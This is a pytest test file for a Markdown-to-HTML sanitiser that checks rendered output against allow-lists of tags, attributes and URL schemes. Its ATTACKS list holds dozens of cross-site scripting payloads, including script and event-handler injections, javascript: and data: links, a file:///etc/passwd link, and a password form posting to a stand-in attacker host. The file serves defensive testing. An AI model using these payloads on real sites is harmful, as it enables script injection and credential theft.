"""What staff write in Markdown reaches readers as harmless HTML."""

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from webinars.core.pictures import Shown
from webinars.core.prose import rendered

TAGS = {"p", "h2", "h3", "h4", "ul", "ol", "li", "a", "strong", "em", "blockquote", "code", "pre", "hr", "br", "table",
        "thead", "tbody", "tr", "th", "td", "img"}  # fmt: skip
OF_PICTURES = {"src", "srcset", "sizes", "width", "height", "alt", "lang", "loading", "decoding"}
OUTWARD = 'rel="noopener noreferrer nofollow"'
#: whoever describes it may write anything
WORDS = "\"><script>alert(1)</script> ' onerror=alert(1)"
PICTURE = Shown("picture", "0123456789abcdef", (480, 960), 960, 540, WORDS, "en")
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>Text",
    "<a href='javascript:alert(1)'>a</a>",
    "<style>body{display:none}</style>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](vbscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a](https://evil.example/track.gif)",
    "![a](x 'onerror=alert(1)')",
    "![\"onerror=alert(1) x=\"](x)",
    "![\" onerror=alert(1)](picture:7)",
    "![a](picture:7 \"x' onerror=alert(1)\")",
    "![a](picture:7\" onerror=\"alert(1))",
    "![<img src=x onerror=alert(1)>](picture:7)",
    "![a](picture:8'onerror=alert(1))",
    "![a](picture:javascript:alert(1))",
    "![a](PICTURE:7)",
    "[a](picture:7)",
    "<picture:7>",
    "[![a](picture:7)](javascript:alert(1))",
    "[![a](https://evil.example/1.png)](https://evil.example/2)",
    "![![a](https://evil.example/1.png)](picture:7)",
    "![a](//evil.example/track.svg)",
    "![a](\\\\evil.example/track.gif)",
    "![a](/media/../evil.svg)",
    "![a](blob:https://evil.example/1)",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    "![a](picture:" + "9" * 5000 + ")",
    "![a][p]\n\n[p]: data:image/svg+xml,<svg/onload=alert(1)>",
    "[a](https://example.org \"' onmouseover=alert(1) '\")",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "# <script>alert(1)</script>",
    "> - <svg/onload=alert(1)>",
    "| <script>x</script> | b |\n|---|---|\n| [a](javascript:x) | c |",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onmouseover=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "[a](https://example.org/\"><script>alert(1)</script>)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip


def check(text: str) -> None:
    """Fail for a tag, an attribute or a scheme that is not on the list."""
    for tag in BeautifulSoup(str(rendered(text, ((7, PICTURE),))), "html5lib").body.find_all(True):
        assert tag.name in TAGS, f"{text!r} makes <{tag.name}>"
        allowed = {"a": {"href", "rel"}, "ol": {"start"}, "img": OF_PICTURES}.get(tag.name, set())
        assert set(tag.attrs) <= allowed, f"{text!r} makes {tag.attrs}"
        address = str(tag.get("href", ""))
        scheme = address.partition(":")[0].strip().lower() if ":" in address.split("/")[0] else ""
        assert scheme in {"", "https", "http", "mailto", "tel"}, f"{text!r} leads to {address}"
        if tag.name == "img":
            # Nothing but ours is ever fetched.
            assert tag["src"] == PICTURE.source and tag["srcset"] == PICTURE.sources, f"{text!r} fetches {tag}"
            assert tag["alt"] == WORDS


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_harmless(attack: str) -> None:
    check(attack)


@pytest.mark.parametrize(
    "outer", ["- {}", "> {}", "1. {}", "**{}**", "[{}](https://example.org)", "| {} |\n|---|", "{}\n==="]
)
def test_attack_is_harmless_inside_something_else(outer: str) -> None:
    for attack in ATTACKS:
        check(outer.format(attack))


@given(st.text("<>\"'=()[]!`*_#-|: \njavscriptdonehl/&;x1", max_size=80))
def test_nothing_that_can_be_typed_leaves_the_list(text: str) -> None:
    check(text)


@pytest.mark.parametrize(("written", "levels"), [
    ("# One\n\n## Two\n\n### Three", ["h2", "h3", "h4"]),
    ("## One\n\n### Two\n\n## Three", ["h2", "h3", "h2"]),
    ("### One\n\n##### Two", ["h2", "h3"]),
    ("One\n===\n\n###### Two", ["h2", "h3"]),
    ("# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5", ["h2", "h3", "h4", "h4", "h4"]),
])  # fmt: skip
def test_headings_stand_below_the_one_of_the_page_and_leave_out_no_level(written: str, levels: list[str]) -> None:
    made = BeautifulSoup(str(rendered(written)), "html.parser").find_all(["h1", "h2", "h3", "h4", "h5", "h6"])
    assert [tag.name for tag in made] == levels


@pytest.mark.parametrize(("written", "left"), [
    ("![A chart](https://a.example/b.png)", f'<a href="https://a.example/b.png" {OUTWARD}>A chart</a>'),
    ("![](//example.org/a.png)", f'<a href="//example.org/a.png" {OUTWARD}>//example.org/a.png</a>'),
    ("![A *chart*](picture:9)", "A chart"),
    ("![A chart](a.png)", "A chart"),
])  # fmt: skip
def test_picture_that_is_not_ours_is_never_fetched(written: str, left: str) -> None:
    assert rendered(written, ((7, PICTURE),)) == f"<p>{left}</p>\n"


@pytest.mark.parametrize(
    "written", ["![](picture:7)", "![Old words](picture:7)", "![x][p]\n\n[p]: picture:7", "![x](<picture:7>)"]
)
def test_picture_of_ours_is_known_by_its_number_whatever_is_typed_beside_it(written: str) -> None:
    found = BeautifulSoup(str(rendered(written, ((7, PICTURE),))), "html.parser").select_one("p > img")
    assert (found["alt"], found["width"], found["height"]) == (WORDS, "960", "540")


def test_links_to_other_sites_say_what_they_are_and_ours_say_nothing() -> None:
    made = rendered(
        "[a](https://example.org) [b](/videos) [c](//example.org) <https://example.org/d> [e](mailto:a@b.org)"
    )
    rels = [link.get("rel") for link in BeautifulSoup(str(made), "html.parser").find_all("a")]
    outward = ["noopener", "noreferrer", "nofollow"]
    assert rels == [outward, None, outward, outward, None]


def test_what_may_be_written_is_shown() -> None:
    made = str(rendered("**b** *i*\n\n- one\n\n3. three\n\n> said\n\n| a |\n|---|\n| 1 |"))
    for piece in ("<strong>b</strong>", "<em>i</em>", "<li>one</li>", '<ol start="3">', "<blockquote>", "<td>1</td>"):
        assert piece in made
